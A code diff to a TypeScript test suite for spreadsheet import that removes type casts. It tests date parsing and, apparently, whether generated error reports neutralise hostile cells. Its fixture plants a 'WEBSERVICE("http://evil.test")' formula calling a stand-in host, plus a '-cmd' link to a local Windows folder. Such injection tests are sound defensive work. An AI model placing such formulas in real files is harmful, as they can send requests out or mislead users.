@@ -77,7 +77,7 @@ describe('ledger sheets', () => {
     expect(readCell(col, new Date(Date.UTC(2023, 11, 31)))).toEqual({ ok: true, value: '2023-12-31' });
     expect(readCell(col, 45352)).toEqual({ ok: true, value: '2024-03-01' });
     expect(readCell(col, '2024年3月1日')).toEqual({ ok: true, value: '2024-03-01' });
-    expect(readCell(col, { formula: 'DATE(2024,3,1)', result: new Date(Date.UTC(2024, 2, 1)) } as ExcelJS.CellValue)).toEqual({ ok: true, value: '2024-03-01' });
+    expect(readCell(col, { formula: 'DATE(2024,3,1)', result: new Date(Date.UTC(2024, 2, 1)) })).toEqual({ ok: true, value: '2024-03-01' });
     expect(readCell(col, '2024-02-30')).toMatchObject({ ok: false, code: 'isDate' });
     expect(readCell(col, 'soon')).toMatchObject({ ok: false, code: 'isDate' });
     expect(parseDateText('2024.12.5')).toBe('2024-12-05');
@@ -169,7 +169,7 @@ describe('ledger sheets', () => {
       ['', '电弧', 1, '2024-03-01', { text: '-cmd', hyperlink: 'file:///c:/windows' }],
     ]);
     const wb0 = await loadWorkbook(file);
-    wb0.addWorksheet('其他').getCell(1, 1).value = { formula: 'WEBSERVICE("http://evil.test")', result: 'x' } as ExcelJS.CellValue;
+    wb0.addWorksheet('其他').getCell(1, 1).value = { formula: 'WEBSERVICE("http://evil.test")', result: 'x' };
     const upload = Buffer.from(await wb0.xlsx.writeBuffer());
     const report = await buildErrorReport(upload, SHEET, [{ row: FIRST_DATA_ROW + 2, column: '名称', field: 'name', code: 'isNotEmpty', message: '名称: 必填' }]);
     const wb = await loadWorkbook(report);
